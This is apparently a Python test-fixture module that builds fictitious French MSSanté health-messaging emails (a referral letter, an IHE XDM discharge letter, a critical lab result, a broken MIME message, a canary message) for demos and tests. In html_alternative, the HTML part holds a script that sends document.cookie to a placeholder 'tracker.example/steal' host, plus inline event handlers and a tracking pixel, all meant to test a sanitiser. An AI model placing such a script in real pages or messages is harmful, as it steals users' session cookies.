"""Sample MSSanté messages for the demo mailboxes and for tests.

Every function returns the raw RFC 5322 bytes (CRLF line ends) of one message, ready
for IMAP APPEND, LMTP or SMTP. People, establishments, identifiers and addresses are
all FICTITIOUS; the domains are `*-exemple.mssante.fr`, which match the default
trust space (`*.mssante.fr`) without belonging to anyone.

The messages are built with the standard library's `email` API, except `malformed()`,
which is broken on purpose and therefore written byte by byte.
"""

from __future__ import annotations

import base64
import hashlib
import io
import secrets
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, tzinfo
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime
from xml.sax.saxutils import escape, quoteattr
from zoneinfo import ZoneInfo, ZoneInfoNotFoundError

# The demo user's mailbox: every sample lands there unless told otherwise.
DEMO_MAILBOX = "dr.martin@chu-exemple.mssante.fr"
# X-MSS-NIL carries the product reference given by convergence.esante.gouv.fr; this one
# is made up.
NIL = "ESTAFETTE-DEMO-0001"
XDM_SUBJECT_PREFIX = "XDM/1.0/DDM+"
XDM_FILENAME = "IHE_XDM.ZIP"
# OID of the INS-NIR assigning authority (1.2.250.1.213.1.4.10 is the one reserved for
# test NIRs, should a consumer insist on it).
INS_OID = "1.2.250.1.213.1.4.8"

_NAMES = {
    "dr.martin@chu-exemple.mssante.fr": "Dr Claire MARTIN",
    "dr.lefevre@cabinet-exemple.mssante.fr": "Dr Antoine LEFÈVRE",
    "dr.bernard@clinique-exemple.mssante.fr": "Dr Sophie BERNARD",
    "rcp.oncologie@chu-exemple.mssante.fr": "RCP d'oncologie digestive - CHU Exemple",
    "secretariat.imagerie@ch-exemple.mssante.fr": "Secrétariat d'imagerie - CH Exemple",
    "laboratoire@chu-exemple.mssante.fr": "Laboratoire de biologie médicale - CHU Exemple",
    "secretariat.chirurgie@ch-exemple.mssante.fr": "Secretariat de chirurgie",
}


@dataclass(frozen=True)
class Patient:
    """The fictitious patient the clinical samples are about."""

    ins: str
    family: str
    given: str
    birth_date: str  # YYYYMMDD
    sex: str  # HL7 administrative gender: M, F, U

    @property
    def cx(self) -> str:
        """The INS as an HL7 CX identifier, as XDS metadata carries it."""
        return f"{self.ins}^^^&{INS_OID}&ISO^INS"


# FICTITIOUS INS (NIR form: sex 1, born 1985-01 in département 75, commune 123, order 456,
# key 09). It cannot belong to anyone: there is no commune 75123, Paris being 75101-75120.
DEMO_PATIENT = Patient(
    ins="185017512345609", family="FICTIF", given="Lucien", birth_date="19850115", sex="M"
)


def _paris() -> tzinfo:
    try:
        return ZoneInfo("Europe/Paris")
    except ZoneInfoNotFoundError:  # no tz database on the machine
        return UTC


def _mailbox(address: str) -> Address | str:
    """`Name <address>` for the known sample people; a full `Name <addr>` passes as is."""
    if "<" in address:
        return address
    return Address(display_name=_NAMES.get(address, ""), addr_spec=address)


def _message_id(sender: str) -> str:
    # Shorter than email.utils.make_msgid's, so the header is never folded: a folded
    # Message-ID comes back from the parser with a leading space.
    return f"<{secrets.token_hex(10)}@{sender.rpartition('@')[2].rstrip('>')}>"


def _new(
    *, sender: str, to: str, subject: str, date: datetime | None, sender_name: str | None = None
) -> EmailMessage:
    """A message with the headers every MSSanté mail carries."""
    msg = EmailMessage(policy=SMTP)
    msg["From"] = (
        Address(display_name=sender_name, addr_spec=sender) if sender_name else _mailbox(sender)
    )
    msg["To"] = _mailbox(to)
    msg["Subject"] = subject
    msg["Date"] = date or datetime.now(_paris())
    msg["Message-ID"] = _message_id(sender)
    msg["X-MSS-NIL"] = NIL
    return msg


def _text(msg: EmailMessage, text: str) -> None:
    # Quoted-printable keeps the message 7-bit clean (no 8BITMIME needed) yet readable.
    msg.set_content(text, cte="quoted-printable")


def _tiny_pdf(title: str, lines: Sequence[str]) -> bytes:
    """A real one-page PDF, so attachments open in a viewer during demos."""

    def literal(s: str) -> str:
        return "(" + s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"

    ops = ["BT", "/F1 14 Tf", "72 770 Td", f"{literal(title)} Tj", "/F1 11 Tf"]
    for line in lines:
        ops += ["0 -18 Td", f"{literal(line)} Tj"]
    ops.append("ET")
    stream = "\n".join(ops).encode("cp1252", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# ---- the samples ----------------------------------------------------------------------


def plain_letter(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "dr.lefevre@cabinet-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """A GP's referral letter to a cardiologist: text/plain, UTF-8, accents in headers and body."""
    p = DEMO_PATIENT
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        subject=f"Demande d'avis cardiologique – M. {p.given} {p.family}",
    )
    _text(
        msg,
        f"""Chère consœur,

Je vous adresse M. {p.given} {p.family}, né le 15/01/1985, que je suis pour une \
fibrillation atriale paroxystique traitée par ablation en septembre dernier.

Il décrit depuis trois semaines des palpitations brèves, à l'effort comme au repos, \
sans malaise ni douleur thoracique. L'électrocardiogramme réalisé au cabinet le \
12 janvier montre un rythme sinusal à 64/min, sans trouble de conduction. \
Traitement actuel : bisoprolol 2,5 mg le matin. L'apixaban a été arrêté en novembre, \
le score CHA₂DS₂-VASc étant à 0.

Je vous serais reconnaissant de bien vouloir le recevoir en consultation, et de me \
dire si un Holter ou une nouvelle exploration électrophysiologique vous paraissent \
indiqués.

Bien confraternellement,

Dr Antoine Lefèvre
Médecin généraliste – Cabinet médical Exemple
""",
    )
    return msg.as_bytes()


def html_alternative(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "rcp.oncologie@chu-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """multipart/alternative whose HTML holds a tracking pixel, a script and an inline
    event handler: what the api's sanitiser must strip."""
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        subject="RCP d'oncologie digestive du jeudi 22 janvier – ordre du jour",
    )
    _text(
        msg,
        """Bonjour,

La prochaine RCP d'oncologie digestive aura lieu le jeudi 22 janvier à 14 h, \
salle de staff du 3e étage (bâtiment B) ou en visioconférence.

Quatre dossiers sont inscrits. Merci de compléter les fiches RCP avant \
mercredi 18 h, faute de quoi les dossiers seront reportés.

Fiches RCP : https://rcp.chu-exemple.fr/fiches

Le secrétariat du 3C
Centre de coordination en cancérologie – CHU Exemple
""",
    )
    msg.add_alternative(
        """<!DOCTYPE html>
<html lang="fr">
<head><meta charset="utf-8"><title>Ordre du jour RCP</title>
<script>document.location = "https://tracker.example/steal?c=" + document.cookie;</script>
</head>
<body onload="alert('rcp')">
<p>Bonjour,</p>
<p>La prochaine <strong>RCP d'oncologie digestive</strong> aura lieu le
<strong>jeudi 22 janvier à 14&nbsp;h</strong>, salle de staff du 3<sup>e</sup> étage
(bâtiment B) ou en visioconférence.</p>
<table border="1" cellpadding="4">
<tr><th>Heure</th><th>Dossiers</th><th>Présentés par</th></tr>
<tr><td>14 h 00</td><td>2 dossiers (bilan initial)</td><td>Hépato-gastro-entérologie</td></tr>
<tr><td>14 h 40</td><td>2 dossiers (réévaluation)</td><td>Chirurgie digestive</td></tr>
</table>
<p>Merci de compléter les fiches RCP <em>avant mercredi 18&nbsp;h</em>, faute de quoi
les dossiers seront reportés.</p>
<p><a href="https://rcp.chu-exemple.fr/fiches" onclick="track()">Accéder aux fiches</a></p>
<p>Le secrétariat du 3C<br>Centre de coordination en cancérologie – CHU Exemple</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
</body>
</html>
""",
        subtype="html",
        cte="quoted-printable",
    )
    return msg.as_bytes()


def _cda_document() -> bytes:
    """A small CDA R2 discharge letter (LDL-SES) about the fictitious patient."""
    p = DEMO_PATIENT
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <realmCode code="FR"/>
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <templateId root="2.16.840.1.113883.2.8.2.1"/>
  <templateId root="1.2.250.1.213.1.1.1.1"/>
  <id root="2.999.1.2.1" extension="LDL-2025-0917-0001"/>
  <code code="11490-0" codeSystem="2.16.840.1.113883.6.1" codeSystemName="LOINC"
        displayName="Lettre de liaison à la sortie d'un établissement de soins"/>
  <title>Lettre de liaison à la sortie – Rythmologie</title>
  <effectiveTime value="20250918103000+0200"/>
  <confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>
  <languageCode code="fr-FR"/>
  <setId root="2.999.1.2.1" extension="LDL-2025-0917"/>
  <versionNumber value="1"/>
  <recordTarget>
    <patientRole>
      <id root="{INS_OID}" extension="{p.ins}"/>
      <patient>
        <name>
          <given>{escape(p.given)}</given>
          <family qualifier="BR">{escape(p.family)}</family>
        </name>
        <administrativeGenderCode code="{p.sex}" codeSystem="2.16.840.1.113883.5.1"/>
        <birthTime value="{p.birth_date}"/>
      </patient>
    </patientRole>
  </recordTarget>
  <author>
    <time value="20250918103000+0200"/>
    <assignedAuthor>
      <id root="1.2.250.1.71.4.2.1" extension="899900000001"/>
      <assignedPerson>
        <name><prefix>Dr</prefix><given>Sophie</given><family>BERNARD</family></name>
      </assignedPerson>
      <representedOrganization>
        <name>Clinique Exemple – Service de rythmologie</name>
      </representedOrganization>
    </assignedAuthor>
  </author>
  <custodian>
    <assignedCustodian>
      <representedCustodianOrganization>
        <id root="2.999.1.2"/>
        <name>Clinique Exemple</name>
      </representedCustodianOrganization>
    </assignedCustodian>
  </custodian>
  <component>
    <structuredBody>
      <component>
        <section>
          <title>Séjour du 16 au 18 septembre 2025</title>
          <text>
            <paragraph>Motif : ablation par radiofréquence d'une fibrillation atriale
            paroxystique symptomatique.</paragraph>
            <paragraph>Évolution : isolation des veines pulmonaires sans complication.
            Rythme sinusal à la sortie.</paragraph>
            <paragraph>Traitement de sortie : apixaban 5 mg matin et soir pendant au moins
            deux mois, bisoprolol 2,5 mg le matin.</paragraph>
            <paragraph>Suivi : consultation de rythmologie à trois mois.</paragraph>
          </text>
        </section>
      </component>
    </structuredBody>
  </component>
</ClinicalDocument>
""".encode()


# IHE ITI TF-3 identifiers of the XDS metadata attributes used below.
_XDS_DOCUMENT_ENTRY = "urn:uuid:7edca82f-054d-47f2-a032-9b2a5b5186c1"
_XDS_DE_AUTHOR = "urn:uuid:93606bcf-9494-43ec-9b4e-a7748d1a838d"
_XDS_DE_TYPE_CODE = "urn:uuid:f0306f51-975f-434e-a61c-c59651d33983"
_XDS_DE_CONFIDENTIALITY = "urn:uuid:f4f85eac-e6cb-4883-b524-f2705394840f"
_XDS_DE_PATIENT_ID = "urn:uuid:58a6f841-87b3-4a3e-92fd-a8ffeff98427"
_XDS_DE_UNIQUE_ID = "urn:uuid:2e82c1f6-a085-4c72-9da3-8640a32e42ab"
_XDS_SUBMISSION_SET = "urn:uuid:a54d6aa5-d40d-43f9-88c5-b4633d873bdd"
_XDS_SS_CONTENT_TYPE = "urn:uuid:aa543740-bdda-424e-8c96-df4873be8500"
_XDS_SS_UNIQUE_ID = "urn:uuid:96fdda7c-d067-4183-912e-bf5ee74998a8"
_XDS_SS_SOURCE_ID = "urn:uuid:554ac39e-e3fe-47fe-b233-965d2a147832"
_XDS_SS_PATIENT_ID = "urn:uuid:6b5aea1a-874d-4603-a4bc-96a0a7b38446"
_LOINC = "2.16.840.1.113883.6.1"
_LDL_SES = "Lettre de liaison à la sortie d'un établissement de soins"


def _slot(name: str, *values: str) -> str:
    items = "".join(f"<rim:Value>{escape(v)}</rim:Value>" for v in values)
    return f'<rim:Slot name="{name}"><rim:ValueList>{items}</rim:ValueList></rim:Slot>'


def _name(text: str) -> str:
    return f'<rim:Name><rim:LocalizedString xml:lang="fr-FR" value={quoteattr(text)}/></rim:Name>'


def _classification(
    ident: str, scheme: str, obj: str, code: str, *inner: str, system: str | None = None
) -> str:
    body = (_slot("codingScheme", system),) if system else ()
    return (
        f'<rim:Classification id="{ident}" classificationScheme="{scheme}" '
        f'classifiedObject="{obj}" nodeRepresentation={quoteattr(code)}>'
        + "".join(body + inner)
        + "</rim:Classification>"
    )


def _external_id(ident: str, scheme: str, obj: str, value: str, label: str) -> str:
    return (
        f'<rim:ExternalIdentifier id="{ident}" identificationScheme="{scheme}" '
        f'registryObject="{obj}" value={quoteattr(value)}>{_name(label)}'
        "</rim:ExternalIdentifier>"
    )


def _metadata(document_name: str, document: bytes) -> bytes:
    """XDS metadata (ebRIM 3.0) of one submission set holding one document entry."""
    p = DEMO_PATIENT
    doc, ss = "Document01", "SubmissionSet01"
    lines = [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"',
        '    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0">',
        "<rim:RegistryObjectList>",
        # The document entry.
        f'<rim:ExtrinsicObject id="{doc}" mimeType="text/xml" objectType="{_XDS_DOCUMENT_ENTRY}"',
        '    status="urn:oasis:names:tc:ebxml-regrep:StatusType:Approved">',
        _slot("creationTime", "20250918083000"),
        # XDM requires the SHA-1 and size of each document.
        _slot("hash", hashlib.sha1(document, usedforsecurity=False).hexdigest()),
        _slot("size", str(len(document))),
        _slot("languageCode", "fr-FR"),
        _slot("serviceStartTime", "20250916"),
        _slot("serviceStopTime", "20250918"),
        _slot("sourcePatientId", p.cx),
        _slot(
            "sourcePatientInfo",
            f"PID-3|{p.cx}",
            f"PID-5|{p.family}^{p.given}^^^^^L",
            f"PID-7|{p.birth_date}",
            f"PID-8|{p.sex}",
        ),
        _slot("URI", document_name),
        _name("Lettre de liaison à la sortie – Rythmologie"),
        _classification(
            "cl01",
            _XDS_DE_AUTHOR,
            doc,
            "",
            _slot("authorPerson", "899900000001^BERNARD^Sophie^^^Dr^^^&1.2.250.1.71.4.2.1&ISO"),
            _slot("authorInstitution", "Clinique Exemple^^^^^^^^^2.999.1.2"),
        ),
        _classification("cl02", _XDS_DE_TYPE_CODE, doc, "11490-0", _name(_LDL_SES), system=_LOINC),
        _classification(
            "cl03",
            _XDS_DE_CONFIDENTIALITY,
            doc,
            "N",
            _name("Normal"),
            system="2.16.840.1.113883.5.25",
        ),
        _external_id("ei01", _XDS_DE_PATIENT_ID, doc, p.cx, "XDSDocumentEntry.patientId"),
        _external_id(
            "ei02",
            _XDS_DE_UNIQUE_ID,
            doc,
            "2.999.1.2.1^LDL-2025-0917-0001",
            "XDSDocumentEntry.uniqueId",
        ),
        "</rim:ExtrinsicObject>",
        # The submission set that carries it.
        f'<rim:RegistryPackage id="{ss}"',
        (
            '    objectType="urn:oasis:names:tc:ebxml-regrep:ObjectType:'
            'RegistryObject:RegistryPackage">'
        ),
        _slot("submissionTime", "20250918083500"),
        _name("Lettre de liaison à la sortie"),
        _classification(
            "cl04", _XDS_SS_CONTENT_TYPE, ss, "11490-0", _name(_LDL_SES), system=_LOINC
        ),
        _external_id(
            "ei03", _XDS_SS_UNIQUE_ID, ss, "2.999.1.2.2.20250918083500", "XDSSubmissionSet.uniqueId"
        ),
        _external_id("ei04", _XDS_SS_SOURCE_ID, ss, "2.999.1.2", "XDSSubmissionSet.sourceId"),
        _external_id("ei05", _XDS_SS_PATIENT_ID, ss, p.cx, "XDSSubmissionSet.patientId"),
        "</rim:RegistryPackage>",
        f'<rim:Classification id="cl05" classifiedObject="{ss}"'
        f' classificationNode="{_XDS_SUBMISSION_SET}"/>',
        '<rim:Association id="as01"',
        '    associationType="urn:oasis:names:tc:ebxml-regrep:AssociationType:HasMember"',
        f'    sourceObject="{ss}" targetObject="{doc}">',
        _slot("SubmissionSetStatus", "Original"),
        "</rim:Association>",
        "</rim:RegistryObjectList>",
        "</lcm:SubmitObjectsRequest>",
        "",
    ]
    return "\n".join(lines).encode()


def xdm_zip_bytes() -> bytes:
    """The IHE XDM package (IHE_XDM.ZIP) of the discharge letter. Byte-for-byte stable."""
    document_name = "DOC0001.XML"
    document = _cda_document()
    files = {
        "INDEX.HTM": """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>IHE XDM</title></head>
<body>
<h1>Contenu du support IHE XDM</h1>
<ul>
<li><a href="IHE_XDM/SUBSET01/DOC0001.XML">Lettre de liaison à la sortie – Rythmologie</a>
(CDA R2)</li>
<li><a href="IHE_XDM/SUBSET01/METADATA.XML">Métadonnées XDS du lot de soumission</a></li>
<li><a href="README.TXT">README.TXT</a></li>
</ul>
</body></html>
""".encode(),
        "README.TXT": (
            "Support IHE XDM produit par Estafette (démonstration).\r\n"
            "Éditeur : projet Estafette - logiciel libre.\r\n"
            "Contenu : un lot de soumission (SUBSET01), un document CDA R2 :\r\n"
            "  IHE_XDM/SUBSET01/DOC0001.XML   Lettre de liaison à la sortie\r\n"
            "Toutes les données de ce support sont fictives.\r\n"
        ).encode(),
        "IHE_XDM/SUBSET01/METADATA.XML": _metadata(document_name, document),
        f"IHE_XDM/SUBSET01/{document_name}": document,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, data in files.items():
            info = zipfile.ZipInfo(path, date_time=(2025, 9, 18, 10, 35, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def xdm_discharge_letter(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "dr.bernard@clinique-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """A discharge letter travelling as a CDA document in an IHE_XDM.ZIP, with the
    X-MSS-CODECDA / X-MSS-INS headers and the `XDM/1.0/DDM+` subject prefix."""
    p = DEMO_PATIENT
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        subject=f"{XDM_SUBJECT_PREFIX}Lettre de liaison à la sortie – M. {p.given} {p.family}",
    )
    msg["X-MSS-CODECDA"] = "11490-0"
    # "O": the archive carries a qualified INS (matricule, OID and the identity traits).
    msg["X-MSS-INS"] = "O"
    _text(
        msg,
        f"""Chère consœur,

Veuillez trouver ci-joint la lettre de liaison de sortie de M. {p.given} {p.family}, \
né le 15/01/1985, hospitalisé du 16 au 18 septembre 2025 dans notre service pour \
l'ablation d'une fibrillation atriale paroxystique.

Le document est au format CDA, dans l'archive IHE_XDM.ZIP jointe.

Bien confraternellement,

Dr Sophie Bernard
Service de rythmologie – Clinique Exemple
""",
    )
    msg.add_attachment(
        xdm_zip_bytes(), maintype="application", subtype="zip", filename=XDM_FILENAME
    )
    return msg.as_bytes()


def mdn_requested(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "secretariat.imagerie@ch-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """A report whose sender asks for a read receipt (RFC 8098 Disposition-Notification-To)."""
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        subject="Compte rendu d'échocardiographie – accusé de lecture demandé",
    )
    # Unstructured for the email package, so give it the bare address: no encoded-words.
    msg["Disposition-Notification-To"] = sender
    _text(
        msg,
        f"""Bonjour Docteur,

Vous trouverez ci-dessous le compte rendu de l'échocardiographie transthoracique \
réalisée le 14 janvier chez M. {DEMO_PATIENT.given} {DEMO_PATIENT.family} (né le 15/01/1985).

Ventricule gauche non dilaté, fraction d'éjection estimée à 60 % (Simpson biplan).
Oreillette gauche modérément dilatée (volume indexé 38 ml/m²).
Pas de valvulopathie significative. Pas d'épanchement péricardique.

Merci de bien vouloir confirmer la lecture de ce message.

Le secrétariat d'imagerie – CH Exemple
""",
    )
    return msg.as_bytes()


def urgent(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "laboratoire@chu-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """A critical lab result flagged `Importance: high` and `X-Priority: 1`."""
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        subject="RÉSULTAT CRITIQUE – kaliémie à 6,8 mmol/L – Mme Rose FICTIVE",
    )
    msg["Importance"] = "high"
    msg["X-Priority"] = "1"
    _text(
        msg,
        """RÉSULTAT CRITIQUE – appel téléphonique sans réponse au poste 4521.

Patiente : Mme Rose FICTIVE, née le 03/06/1948, hospitalisée en néphrologie, lit 12.
Prélèvement du jour à 06 h 40, validé à 07 h 15.

Potassium : 6,8 mmol/L (valeurs de référence 3,5 – 5,0)
Créatinine : 412 µmol/L (valeur précédente 236 µmol/L le 12/01)
Pas d'hémolyse sur le tube.

Merci de prendre connaissance de ce résultat sans délai.

Laboratoire de biologie médicale – CHU Exemple
Biologiste de garde : poste 4500
""",
    )
    return msg.as_bytes()


def malformed(
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "secretariat.chirurgie@ch-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """Broken MIME as real servers do deliver it: a raw 8-bit (Latin-1) Subject, a part in
    the unknown charset `x-unknown-8bit`, and a multipart cut short (truncated base64, no
    closing boundary). The gateway must store and show it, never drop it."""
    when = format_datetime(date or datetime.now(_paris()))
    message_id = _message_id(sender)
    pdf = _tiny_pdf("Compte rendu opératoire", ["Document tronqué en transit."])
    lines = base64.encodebytes(pdf).split(b"\n")
    # Cut mid-line, as a dropped connection leaves it: 76-char lines then 37 chars, so
    # the base64 is not a multiple of 4 long.
    truncated = [*lines[: len(lines) // 2], lines[len(lines) // 2][:37]]
    head = [
        f"From: Secretariat de chirurgie <{sender}>".encode("ascii"),
        f"To: <{to}>".encode("ascii"),
        b"Subject: Compte rendu op\xe9ratoire - M. FICTIF",
        f"Date: {when}".encode("ascii"),
        f"Message-ID: {message_id}".encode("ascii"),
        f"X-MSS-NIL: {NIL}".encode("ascii"),
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="=_estafette_broken"',
        b"",
        b"This is a multi-part message in MIME format.",
        b"",
        b"--=_estafette_broken",
        b'Content-Type: text/plain; charset="x-unknown-8bit"',
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"Bonjour, veuillez trouver ci-joint le compte rendu op\xe9ratoire.",
        b"Bien \xe0 vous. \x81\x8d",
        b"",
        b"--=_estafette_broken",
        b'Content-Type: application/pdf; name="CRO.pdf"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="CRO.pdf"',
        b"",
    ]
    return b"\r\n".join(head + truncated) + b"\r\n"


def canary_message(
    canary: str,
    *,
    to: str = DEMO_MAILBOX,
    sender: str = "dr.lefevre@cabinet-exemple.mssante.fr",
    date: datetime | None = None,
) -> bytes:
    """A message with `canary` in the subject, sender name, body, attachment name and
    attachment content, so a test can prove none of them leaks into pushes, logs or
    audit records."""
    msg = _new(
        sender=sender,
        to=to,
        date=date,
        sender_name=f"Dr {canary}",
        subject=f"Résultats {canary}",
    )
    _text(
        msg,
        f"""Bonjour,

Voici les résultats de M. {canary}, né le 01/01/1970.
Hémoglobine 13,2 g/dL, plaquettes 245 G/L.

Bien cordialement,
Dr {canary}
""",
    )
    msg.add_attachment(
        _tiny_pdf(f"Résultats {canary}", [f"Patient : {canary}"]),
        maintype="application",
        subtype="pdf",
        filename=f"resultats-{canary}.pdf",
    )
    return msg.as_bytes()


def demo_mailbox_contents(*, to: str = DEMO_MAILBOX, now: datetime | None = None) -> list[bytes]:
    """What seeds a demo mailbox, oldest first so that IMAP UIDs follow the dates."""
    now = now or datetime.now(_paris())
    return [
        xdm_discharge_letter(to=to, date=now - timedelta(days=3, hours=2)),
        plain_letter(to=to, date=now - timedelta(days=2, hours=5)),
        html_alternative(to=to, date=now - timedelta(days=1, hours=3)),
        mdn_requested(to=to, date=now - timedelta(hours=6)),
        malformed(to=to, date=now - timedelta(hours=3)),
        urgent(to=to, date=now - timedelta(minutes=20)),
    ]
